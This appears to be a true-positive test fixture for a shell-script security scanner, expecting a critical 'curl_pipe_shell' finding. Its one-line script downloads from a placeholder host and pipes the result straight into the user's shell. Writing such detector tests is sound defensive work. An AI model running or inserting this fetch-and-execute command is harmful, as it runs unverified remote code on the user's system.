# expect: shell.curl_pipe_shell critical
# note: the user's shell by name
# path: scripts/tp_pipe_to_shell_variable.sh
#!/bin/sh
curl -fsSL https://get.example.net/i | $SHELL
